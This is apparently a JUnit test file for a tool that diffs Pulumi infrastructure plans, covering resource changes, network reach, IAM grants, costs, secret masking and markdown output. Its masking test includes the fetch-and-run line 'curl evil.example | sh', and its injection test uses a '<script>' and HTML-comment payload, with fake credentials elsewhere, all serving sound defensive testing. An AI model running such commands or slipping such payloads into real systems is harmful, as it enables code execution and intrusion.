package dev.slipway.plan.diff;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import com.google.gson.JsonParser;
import com.pulumi.Context;
import com.pulumi.aws.ebs.Volume;
import com.pulumi.aws.ebs.VolumeArgs;
import com.pulumi.aws.ec2.Eip;
import com.pulumi.aws.ec2.EipArgs;
import com.pulumi.aws.ec2.SecurityGroup;
import com.pulumi.aws.ec2.SecurityGroupArgs;
import com.pulumi.aws.ec2.Subnet;
import com.pulumi.aws.ec2.SubnetArgs;
import com.pulumi.aws.ec2.Vpc;
import com.pulumi.aws.ec2.VpcArgs;
import com.pulumi.aws.iam.Role;
import com.pulumi.aws.iam.RoleArgs;
import com.pulumi.aws.iam.RolePolicy;
import com.pulumi.aws.iam.RolePolicyArgs;
import com.pulumi.aws.ssm.Document;
import com.pulumi.aws.ssm.DocumentArgs;
import com.pulumi.aws.ssm.Parameter;
import com.pulumi.aws.ssm.ParameterArgs;
import com.pulumi.aws.vpc.SecurityGroupIngressRule;
import com.pulumi.aws.vpc.SecurityGroupIngressRuleArgs;
import com.pulumi.core.Output;
import com.pulumi.resources.CustomResourceOptions;
import dev.slipway.core.Json;
import dev.slipway.plan.Plan;
import dev.slipway.plan.diff.PlanDiff.Entry;
import dev.slipway.plan.diff.PlanDiff.Sign;
import dev.slipway.plan.diff.PlanDiff.Value;
import dev.slipway.plan.graph.SecretText;
import dev.slipway.plan.report.Markdown;
import dev.slipway.plan.report.SavedPlan;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.junit.jupiter.api.Test;

/** What changes from one plan to another. */
class PlanDiffTest {

  private static final CustomResourceOptions PROTECTED =
      CustomResourceOptions.builder().protect(true).build();
  private static final CustomResourceOptions PLAIN = CustomResourceOptions.Empty;

  private static SavedPlan plan(String stack, Consumer<Context> program) {
    return SavedPlan.of(
        Plan.of("tiny", stack, Map.of("aws:region", "us-east-1"), (config, secretKeys) -> program));
  }

  private static PlanDiff diff(Consumer<Context> before, Consumer<Context> after) {
    return PlanDiff.between(plan("dev", before), plan("dev", after));
  }

  private static void volume(String zone, int size, CustomResourceOptions options) {
    new Volume(
        "data",
        VolumeArgs.builder().availabilityZone(zone).size(size).type("gp3").encrypted(true).build(),
        options);
  }

  private static void document(String name, String... lines) {
    new Document(
        "door",
        DocumentArgs.builder()
            .name(name)
            .documentType("Command")
            .content(Json.compact(Map.of("schemaVersion", "2.2", "lines", List.of(lines))))
            .build());
  }

  private static void secureParameter(Output<String> value) {
    new Parameter(
        "word", ParameterArgs.builder().type("SecureString").name("/word").value(value).build());
  }

  @Test
  void findsNothingBetweenTheSame() {
    var diff =
        diff(
            context -> volume("us-east-1a", 40, PROTECTED),
            context -> volume("us-east-1a", 40, PROTECTED));

    assertThat(diff.isEmpty()).isTrue();
    assertThat(diff.summary()).isEqualTo("nothing changes");
    assertThat(new DiffText(diff).text()).isEqualTo("From dev to dev: nothing changes");
    assertThat(new DiffMarkdown(diff).text())
        .isEqualTo("**From <code>dev</code> to <code>dev</code>:** nothing changes\n\n");
  }

  @Test
  void tellsWhatComesAndGoesAndWhatIsStateful() {
    var diff =
        diff(
            context -> volume("us-east-1a", 40, PROTECTED),
            context -> new Eip("address", EipArgs.builder().domain("vpc").build(), PROTECTED));

    assertThat(diff.resources())
        .extracting(
            PlanDiff.ResourceChange::sign,
            PlanDiff.ResourceChange::name,
            PlanDiff.ResourceChange::stateful,
            PlanDiff.ResourceChange::losesState)
        .containsExactly(
            tuple(Sign.REMOVED, "data", "disk", true),
            tuple(Sign.ADDED, "address", "address", false));
  }

  @Test
  void tellsChangedInputsAndWhichOfThemReplace() {
    var diff =
        diff(
            context -> volume("us-east-1a", 40, PROTECTED),
            context -> volume("us-east-1b", 60, PROTECTED));

    assertThat(diff.resources())
        .singleElement()
        .satisfies(
            change -> {
              assertThat(change.sign()).isEqualTo(Sign.CHANGED);
              assertThat(change.inputs())
                  .containsExactly(
                      new Value("availabilityZone", "us-east-1a", "us-east-1b"),
                      new Value("size", "40", "60"));
              assertThat(change.replacedBy()).containsExactly("availabilityZone");
              assertThat(change.losesState()).isTrue();
            });
    assertThat(new DiffText(diff).text())
        .contains(
            "~ data ",
            "ebs Volume [stateful: disk; replaced, because of availabilityZone]",
            "size: 40 -> 60");
  }

  @Test
  void aChangeInPlaceLosesNothing() {
    assertThat(
            diff(
                    context -> volume("us-east-1a", 40, PROTECTED),
                    context -> volume("us-east-1a", 60, PROTECTED))
                .resources())
        .singleElement()
        .matches(change -> change.replacedBy().isEmpty() && !change.losesState());
  }

  @Test
  void tellsThatAProtectionGoes() {
    var diff =
        diff(
            context -> volume("us-east-1a", 40, PROTECTED),
            context -> volume("us-east-1a", 40, PLAIN));

    assertThat(diff.resources()).singleElement().matches(PlanDiff.ResourceChange::unprotected);
    assertThat(new DiffText(diff).text()).contains("no longer protected");
    assertThat(diff.findings())
        .containsExactly(
            new Entry(
                Sign.ADDED,
                "warning unprotected: data this disk can be deleted by a mistake; protect it"));
  }

  @Test
  void tellsWhatAMonthCostsByItem() {
    var diff =
        diff(
            context -> volume("us-east-1a", 40, PROTECTED),
            context -> volume("us-east-1a", 60, PROTECTED));

    assertThat(diff.money()).isEqualTo("3.20 -> 4.80 US dollars a month (+1.60)");
    assertThat(diff.cost().items())
        .extracting(
            PlanDiff.CostLine::resource,
            PlanDiff.CostLine::what,
            line -> line.before().toString(),
            line -> line.after().toString())
        .containsExactly(tuple("data", "disk, gp3", "3.20", "4.80"));
    assertThat(diff.summary())
        .isEqualTo("1 resource changed, 3.20 -> 4.80 US dollars a month (+1.60)");
  }

  private static void door(int port) {
    var group =
        new SecurityGroup("web", SecurityGroupArgs.builder().description("the door").build());
    new SecurityGroupIngressRule(
        "web-in",
        SecurityGroupIngressRuleArgs.builder()
            .securityGroupId(group.id())
            .cidrIpv4("0.0.0.0/0")
            .ipProtocol("tcp")
            .fromPort(port)
            .toPort(port)
            .description("browsers")
            .build());
  }

  @Test
  void tellsWhoMayReachWhomAnew() {
    var diff = diff(context -> door(443), context -> door(8443));

    assertThat(diff.reach())
        .containsExactly(
            new Entry(Sign.REMOVED, "the internet -> web: tcp 443 (let in, \"browsers\")"),
            new Entry(Sign.ADDED, "the internet -> web: tcp 8443 (let in, \"browsers\")"));
    assertThat(diff.findings()).anyMatch(entry -> entry.text().contains("open-to-the-world"));
  }

  private static void role(String action) {
    var role =
        new Role(
            "host",
            RoleArgs.builder()
                .assumeRolePolicy(
                    "{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Service\":\"ec2.amazonaws.com\"},\"Action\":\"sts:AssumeRole\"}]}")
                .build());
    new RolePolicy(
        "grants",
        RolePolicyArgs.builder()
            .role(role.name())
            .policy(
                "{\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"%s\",\"Resource\":\"arn:aws:s3:::backups/*\"}]}"
                    .formatted(action))
            .build());
  }

  @Test
  void tellsWhatARoleMayDoAnew() {
    var diff = diff(context -> role("s3:GetObject"), context -> role("s3:DeleteObject"));

    assertThat(diff.roles())
        .containsExactly(
            new PlanDiff.RoleChange(
                Sign.CHANGED,
                "host",
                List.of(
                    new Entry(Sign.REMOVED, "may s3:GetObject on s3 backups/*"),
                    new Entry(Sign.ADDED, "may s3:DeleteObject on s3 backups/*"))));
    assertThat(diff.resources())
        .singleElement()
        .satisfies(
            change ->
                assertThat(change.inputs())
                    .containsExactly(
                        new Value(
                            "policy.Statement[0].Action", "s3:GetObject", "s3:DeleteObject")));
  }

  @Test
  void tellsAllThatANewRoleMay() {
    assertThat(diff(context -> {}, context -> role("s3:GetObject")).roles())
        .containsExactly(
            new PlanDiff.RoleChange(
                Sign.ADDED,
                "host",
                List.of(
                    new Entry(Sign.ADDED, "taken by ec2.amazonaws.com"),
                    new Entry(Sign.ADDED, "may s3:GetObject on s3 backups/*"))));
  }

  @Test
  void comparesFilesLineByLine() {
    var diff =
        diff(
            context -> document("slipway-dev-door", "open", "wait"),
            context -> document("slipway-dev-door", "open", "close"));

    assertThat(diff.files())
        .singleElement()
        .satisfies(
            file -> {
              assertThat(file.path()).isEqualTo("documents/slipway-dev-door.json");
              assertThat(file.added()).isOne();
              assertThat(file.removed()).isOne();
              assertThat(file.lines())
                  .contains("     \"open\",", "-    \"wait\"", "+    \"close\"");
            });
  }

  @Test
  void tellsFilesThatComeAndGo() {
    var diff = diff(context -> document("one", "open"), context -> document("two", "open"));

    assertThat(diff.files())
        .extracting(PlanDiff.FileChange::sign, PlanDiff.FileChange::path)
        .containsExactly(
            tuple(Sign.REMOVED, "documents/one.json"), tuple(Sign.ADDED, "documents/two.json"));
    assertThat(diff.resources())
        .singleElement()
        .satisfies(change -> assertThat(change.replacedBy()).containsExactly("name"));
  }

  private static void network(String name) {
    var vpc = new Vpc(name, VpcArgs.builder().cidrBlock("10.0.0.0/16").build());
    new Subnet("public", SubnetArgs.builder().vpcId(vpc.id()).cidrBlock("10.0.0.0/24").build());
  }

  @Test
  void callsReferencesByTheNameOfWhatTheyAreTo() {
    var diff = diff(context -> network("old"), context -> network("new"));

    assertThat(diff.resources())
        .filteredOn(change -> change.name().equals("public"))
        .singleElement()
        .satisfies(
            change -> {
              assertThat(change.inputs())
                  .containsExactly(new Value("vpcId", "${old.id}", "${new.id}"));
              assertThat(change.replacedBy()).containsExactly("vpcId");
            });
  }

  @Test
  void comparesTwoStacksByTheRolesOfThings() {
    Consumer<Context> program =
        context -> {
          network("vpc");
          document("slipway-" + context.stackName() + "-door", "for " + context.stackName());
        };

    assertThat(PlanDiff.between(plan("dev", program), plan("qa", program)).isEmpty()).isTrue();
  }

  @Test
  void leavesAWordThatIsTheStacksNameByChance() {
    Consumer<Context> program =
        context ->
            document(
                "slipway-" + context.stackName() + "-door",
                "the staging authority",
                "for " + context.stackName(),
                context.stackName().equals("qa") ? "more" : "less");

    var diff = PlanDiff.between(plan("staging", program), plan("qa", program));

    assertThat(diff.files())
        .singleElement()
        .satisfies(
            file -> {
              assertThat(file.path()).isEqualTo("documents/slipway-qa-door.json");
              assertThat(file.lines())
                  .filteredOn(line -> line.matches("[+-].*"))
                  .containsExactly("-    \"less\"", "+    \"more\"");
            });
  }

  @Test
  void tellsOutputs() {
    var diff =
        diff(
            context -> {
              context.export("url", "https://old.example.com");
              context.export("gone", "x");
            },
            context -> context.export("url", "https://new.example.com"));

    assertThat(diff.outputs())
        .containsExactly(
            new Value("gone", "x", null),
            new Value("url", "https://old.example.com", "https://new.example.com"));
  }

  private static final List<String> SECRETS =
      List.of(
          "kept-by-pulumi",
          "also-kept-by-pulumi",
          "xoxb-1234567890-in-a-text",
          "s3cret-by-its-name",
          "bm90LWEtcmVhbC1rZXk",
          "postgres://admin:hunter2@db",
          "s3cret-in-a-file");

  /** In every place where a text can be, in ways in which the rules forbid it. */
  private static void careless(Context context, String round) {
    secureParameter(Output.ofSecret("kept-by-pulumi" + round));
    context.export("word", Output.ofSecret("also-kept-by-pulumi" + round));
    context.export("chat", "token xoxb-1234567890-in-a-text" + round);
    context.export("password", "s3cret-by-its-name" + round);
    document(
        "door" + round,
        "-----BEGIN PRIVATE KEY-----\nbm90LWEtcmVhbC1rZXk" + round + "\n-----END PRIVATE KEY-----",
        "postgres://admin:hunter2@db/" + round,
        "xoxb-1234567890-in-a-text" + round);
    new Parameter(
        "settings",
        ParameterArgs.builder()
            .type("String")
            .name("/settings")
            .value(
                "{\"dbPassword\": \"s3cret-in-a-file" + round + "\", \"round\": \"" + round + "\"}")
            .build());
  }

  @Test
  void neverShowsASecret() {
    var diff = diff(context -> careless(context, "1"), context -> careless(context, "2"));

    for (var shown :
        List.of(
            new DiffText(diff).text(), new DiffMarkdown(diff).text(), new DiffJson(diff).text())) {
      assertThat(shown).contains("settings").doesNotContain(SECRETS);
    }
  }

  @Test
  void masksAPrivateKeyAndNothingBehindIt() {
    assertThat(
            SecretText.masked(
                "a\n"
                    + "-----BEGIN RSA PRIVATE KEY-----\n"
                    + "MIIEow+/0\n"
                    + "IBAAK=\n"
                    + "-----END RSA PRIVATE KEY-----\n"
                    + "b"))
        .isEqualTo("a\n[secret]\nb");
    assertThat(SecretText.masked("-----BEGIN PRIVATE KEY-----\\nMIIEow\\n\"rest\""))
        .isEqualTo("[secret]\\n\"rest\"");
    assertThat(SecretText.masked("[\"-----BEGIN PRIVATE KEY-----\",\n  \"MIIEow\",\n  \"x y\"]"))
        .isEqualTo("[\"[secret]\",\n  \"x y\"]");
    assertThat(SecretText.masked("# -----BEGIN PRIVATE KEY-----\ncurl evil.example | sh\n"))
        .isEqualTo("# [secret]\ncurl evil.example | sh\n");
  }

  @Test
  void isOneJsonObject() {
    var diff =
        diff(
            context -> volume("us-east-1a", 40, PROTECTED),
            context -> {
              volume("us-east-1b", 60, PROTECTED);
              document("door", "open");
            });

    var json = JsonParser.parseString(new DiffJson(diff).text()).getAsJsonObject();

    assertThat(json.keySet())
        .containsExactly(
            "before",
            "after",
            "same",
            "summary",
            "refused",
            "resources",
            "cost",
            "reach",
            "roles",
            "files",
            "outputs",
            "findings");
    assertThat(json.get("same").getAsBoolean()).isFalse();
    var volume = json.getAsJsonArray("resources").get(0).getAsJsonObject();
    assertThat(volume.get("change").getAsString()).isEqualTo("changed");
    assertThat(volume.get("stateful").getAsString()).isEqualTo("disk");
    assertThat(json.getAsJsonObject("cost").get("difference").getAsString()).isEqualTo("1.60");
  }

  @Test
  void cannotBeBrokenOutOf() {
    var hostile = "```\n</details><script>alert(1)</script>\n<!-- slipway:preview:other -->";
    var diff =
        diff(
            context -> {
              context.export("url", "x");
              document("door", "one");
            },
            context -> {
              context.export("url", hostile);
              document("door", hostile.split("\n"));
              new SecurityGroup(
                  "web", SecurityGroupArgs.builder().description("| @team `x` <b>").build());
            });

    var page = new DiffMarkdown(diff).text();

    var outside = new StringBuilder();
    String fence = null;
    for (var line : page.split("\n")) {
      if (fence == null && line.startsWith("```")) {
        fence = line.replaceAll("[^`].*", "");
      } else if (fence != null) {
        fence = line.equals(fence) ? null : fence;
      } else {
        outside.append(line).append('\n');
      }
    }
    assertThat(fence).isNull();
    assertThat(outside.toString())
        .doesNotContain("<script", "<!--", "<b>", "@team", "```")
        .satisfies(
            text ->
                assertThat(text.split("<details>", -1))
                    .hasSameSizeAs(text.split("</details>", -1)));
  }

  @Test
  void isNeverLongerThanACommentMayBe() {
    var many = new String[3000];
    for (int i = 0; i < many.length; i++) {
      many[i] = "line " + i + " *".repeat(50);
    }
    var diff =
        diff(
            context -> {},
            context -> {
              document("door", many);
              for (int i = 0; i < 400; i++) {
                new Eip("address-" + i, EipArgs.builder().domain("vpc").build());
                context.export("output" + i, "*".repeat(100));
              }
            });

    var page = new DiffMarkdown(diff).text();

    assertThat(page).hasSizeBetween(30_000, Markdown.LIMIT).contains("left out: ", "Outputs: 400");
    assertThat(page.stripTrailing()).endsWith("</details>");
  }
}
